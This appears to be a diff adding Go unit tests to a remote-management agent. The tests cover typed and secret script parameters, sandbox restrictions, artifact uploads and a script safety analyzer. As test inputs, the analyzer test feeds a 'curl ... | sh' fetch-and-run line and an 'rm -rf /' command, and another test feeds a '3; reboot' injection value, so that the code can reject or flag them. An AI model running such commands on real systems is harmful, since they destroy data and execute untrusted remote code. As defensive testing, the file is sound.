@@ -1,11 +1,19 @@
 package heartbeat
 
 import (
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
+	"io"
 	"net"
+	"net/http"
+	"net/http/httptest"
+	"strings"
 	"testing"
 	"time"
 
+	"github.com/breeze-rmm/agent/internal/cmdsched"
+	"github.com/breeze-rmm/agent/internal/config"
 	"github.com/breeze-rmm/agent/internal/executor"
 	"github.com/breeze-rmm/agent/internal/ipc"
 	"github.com/breeze-rmm/agent/internal/remote/tools"
@@ -235,6 +243,132 @@ func TestHandleScriptWithParameters(t *testing.T) {
 	}
 }
 
+func TestHandleScriptWithTypedParams(t *testing.T) {
+	h := newTestHeartbeat(nil)
+	result := handleScript(h, Command{
+		ID:   "cmd-typed-params",
+		Type: tools.CmdScript,
+		Payload: map[string]any{
+			"content":        `echo "$BREEZE_PARAM_RETRIES $BREEZE_PARAM_VERBOSE $BREEZE_PARAM_APIKEY"`,
+			"language":       "bash",
+			"timeoutSeconds": 10,
+			"params": []any{
+				map[string]any{"name": "retries", "type": "int", "value": float64(3)},
+				map[string]any{"name": "verbose", "type": "bool", "value": true},
+				map[string]any{"name": "apikey", "type": "secret", "value": "k-123456"},
+			},
+		},
+	})
+	if result.Status != "completed" || result.Stdout != "3 true [REDACTED]\n" {
+		t.Fatalf("unexpected result: %+v", result)
+	}
+
+	result = handleScript(h, Command{
+		ID:   "cmd-bad-param",
+		Type: tools.CmdScript,
+		Payload: map[string]any{
+			"content": "echo never",
+			"params":  []any{map[string]any{"name": "retries", "type": "int", "value": "3; reboot"}},
+		},
+	})
+	if result.Status != "failed" || !strings.Contains(result.Error, "not an integer") {
+		t.Fatalf("expected invalid parameter to fail, got %+v", result)
+	}
+}
+
+func TestHandleScriptSandboxRejectsRunAs(t *testing.T) {
+	h := newTestHeartbeat(nil)
+	result := handleScript(h, Command{
+		ID:   "cmd-sandbox-runas",
+		Type: tools.CmdScript,
+		Payload: map[string]any{
+			"content": "id",
+			"runAs":   "nobody",
+			"sandbox": map[string]any{"network": false, "memoryMb": float64(128)},
+		},
+	})
+	if result.Status != "failed" || !strings.Contains(result.Error, "not supported for sandboxed scripts") {
+		t.Fatalf("expected sandboxed runAs to be refused, got %+v", result)
+	}
+}
+
+func TestScheduleCommandRejectsSecretParams(t *testing.T) {
+	h := &Heartbeat{scheduler: &cmdsched.Scheduler{}}
+	result := handleScheduleCommand(h, Command{
+		ID:   "cmd-sched-secret",
+		Type: tools.CmdScheduleCommand,
+		Payload: map[string]any{
+			"commandType": tools.CmdScript,
+			"schedule":    "@daily",
+			"commandPayload": map[string]any{
+				"content": "echo hi",
+				"params":  []any{map[string]any{"name": "pw", "type": "secret", "value": "hunter2"}},
+			},
+		},
+	})
+	if result.Status != "failed" || !strings.Contains(result.Error, "secret parameters cannot be scheduled") {
+		t.Fatalf("expected secret parameters to be rejected, got %+v", result)
+	}
+}
+
+func TestHandleScriptUploadsArtifacts(t *testing.T) {
+	const input = "input-data\n"
+	sum := sha256.Sum256([]byte(input))
+	var uploadPath, uploadName, uploadSum, uploadBody string
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Method == http.MethodGet {
+			io.WriteString(w, input)
+			return
+		}
+		uploadPath, uploadName = r.URL.Path, r.URL.Query().Get("name")
+		uploadSum = r.Header.Get("X-Artifact-SHA256")
+		body, _ := io.ReadAll(r.Body)
+		uploadBody = string(body)
+		w.WriteHeader(http.StatusCreated)
+	}))
+	defer server.Close()
+
+	h := newTestHeartbeat(nil)
+	h.config = &config.Config{ServerURL: server.URL, AgentID: "agent-1", AuthToken: "tok"}
+	h.client = server.Client()
+	result := handleScript(h, Command{
+		ID:   "cmd-artifacts",
+		Type: tools.CmdScript,
+		Payload: map[string]any{
+			"content":        "mkdir out && tr a-z A-Z < in.txt > out/result.txt",
+			"language":       "bash",
+			"timeoutSeconds": 10,
+			"attachments": []any{map[string]any{
+				"name":   "in.txt",
+				"url":    server.URL + "/files/in.txt",
+				"sha256": hex.EncodeToString(sum[:]),
+			}},
+			"artifacts": []any{"out/*.txt"},
+		},
+	})
+
+	if result.Status != "completed" {
+		t.Fatalf("expected completed, got %s (error: %s, stderr: %s)", result.Status, result.Error, result.Stderr)
+	}
+	outSum := sha256.Sum256([]byte("INPUT-DATA\n"))
+	if uploadPath != "/api/v1/agents/agent-1/commands/cmd-artifacts/artifacts" || uploadName != "out/result.txt" ||
+		uploadBody != "INPUT-DATA\n" || uploadSum != hex.EncodeToString(outSum[:]) {
+		t.Fatalf("unexpected upload %s?name=%s (%s): %q", uploadPath, uploadName, uploadSum, uploadBody)
+	}
+}
+
+func TestArtifactUploadMatchesServerRoute(t *testing.T) {
+	route := readAPISource(t, "routes/agents/artifacts.ts")
+	for _, want := range []string{"'/:id/commands/:commandId/artifacts'", "name: z.string()", "c.req.header('x-artifact-sha256')"} {
+		if !strings.Contains(route, want) {
+			t.Errorf("artifact route does not contain %s", want)
+		}
+	}
+	if !strings.Contains(readAPISource(t, "routes/agents/index.ts"), "agentRoutes.route('/', artifactsRoutes)") {
+		t.Fatal("artifact route is not mounted")
+	}
+}
+
 func TestHandleScriptTimeout(t *testing.T) {
 	if testing.Short() {
 		t.Skip("skipping timeout test in short mode")
@@ -282,6 +416,40 @@ func TestHandleScriptCancel(t *testing.T) {
 	}
 }
 
+func TestHandleScriptAnalyze(t *testing.T) {
+	h := newTestHeartbeat(nil)
+
+	result := handleScriptAnalyze(h, Command{
+		ID:   "cmd-analyze",
+		Type: tools.CmdScriptAnalyze,
+		Payload: map[string]any{
+			"language": "bash",
+			"content":  "echo ok\ncurl -s https://example.com/x | sh\nrm -rf /",
+		},
+	})
+	if result.Status != "completed" {
+		t.Fatalf("expected completed, got %s: %s", result.Status, result.Error)
+	}
+	var out struct {
+		Findings []executor.Finding `json:"findings"`
+		Blocked  bool               `json:"blocked"`
+	}
+	if err := json.Unmarshal([]byte(result.Stdout), &out); err != nil {
+		t.Fatalf("decode result: %v", err)
+	}
+	if !out.Blocked || len(out.Findings) != 2 {
+		t.Fatalf("unexpected analysis: %+v", out)
+	}
+	if f := out.Findings[1]; f.Rule != "recursive-delete-system" || f.Line != 3 || f.Column != 1 || f.Severity != executor.SeverityCritical {
+		t.Fatalf("unexpected finding: %+v", f)
+	}
+
+	result = handleScriptAnalyze(h, Command{ID: "cmd-analyze-empty", Type: tools.CmdScriptAnalyze, Payload: map[string]any{}})
+	if result.Status != "failed" {
+		t.Fatalf("expected failed for missing content, got %s", result.Status)
+	}
+}
+
 func TestHandleScriptListRunning(t *testing.T) {
 	h := newTestHeartbeat(nil)
 	result := handleScriptListRunning(h, Command{